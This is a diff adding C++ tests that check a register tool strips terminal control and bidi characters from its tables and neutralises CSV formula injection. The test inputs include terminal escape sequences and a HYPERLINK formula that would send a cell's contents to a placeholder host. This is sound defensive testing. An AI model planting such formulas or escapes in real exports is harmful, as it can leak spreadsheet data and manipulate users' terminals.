@@ -98,6 +98,21 @@ TEST_CASE("the table aligns its columns by display width, whatever the script", 
     CHECK(column_of(lines[2], "—") == column_of(lines[0], "number"));  // no number
 }
 
+TEST_CASE("the table prints no control a terminal would act on: C0, C1 or a bidi override", "[register]") {
+    Row a = due_row();
+    // ESC ] … BEL sets a terminal's title; U+009B is CSI by itself; U+0085 is NEL; U+202E
+    // reverses what follows; U+2066 opens an isolate.
+    a.title = "A\x1b]0;x\x07" "B\xc2\x9b" "31mC\xe2\x80\xae" "D\xe2\x81\xa6" "E";
+    a.addressee = "M\xc2\x85N";
+    const std::string table = register_table({a});
+    for (const char* control : {"\x1b", "\x07", "\xc2\x9b", "\xc2\x85", "\xe2\x80\xae", "\xe2\x81\xa6"}) {
+        INFO(control);
+        CHECK(table.find(control) == std::string::npos);
+    }
+    CHECK(table.find("A ]0;x B 31mC D E") != std::string::npos);  // each a space, the text kept
+    CHECK(table.find("M N") != std::string::npos);
+}
+
 TEST_CASE("JSON: an array of objects with fixed keys, dates ISO or null", "[register]") {
     Row b;
     b.file = "b.md";
@@ -135,6 +150,21 @@ TEST_CASE("CSV: RFC 4180, a header row, quotes around commas, quotes and line en
           "2026-11-02,2026-11-05,2026-11-09,,due in 3 days");
     CHECK(csv.size() >= 2);
     CHECK(csv.substr(csv.size() - 2) == "\r\n");
+}
+
+TEST_CASE("CSV: a cell a spreadsheet would run as a formula starts with an apostrophe", "[register]") {
+    Row r = due_row();
+    r.title = "=HYPERLINK(\"http://example.org/?\"&A1)";
+    r.addressee = "@SUM(1+1)";
+    r.number = "+7";
+    r.file = "-2.md";
+    const std::vector<std::string> lines = lines_of(register_csv({r}), "\r\n");
+    REQUIRE(lines.size() == 2);
+    CHECK(lines[1].rfind("'-2.md,\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1)\",'@SUM(1+1),'+7,2026-10-30,", 0) == 0);
+    r.title = "\t=1";  // a tab or CR first, then the formula
+    CHECK(lines_of(register_csv({r}), "\r\n")[1].find(",'\t=1,") != std::string::npos);
+    r.title = "Запрос = 1";  // a sign inside is text already
+    CHECK(lines_of(register_csv({r}), "\r\n")[1].find(",Запрос = 1,") != std::string::npos);
 }
 
 TEST_CASE("the summary's register lists overdue rows first, then the due soonest", "[register]") {
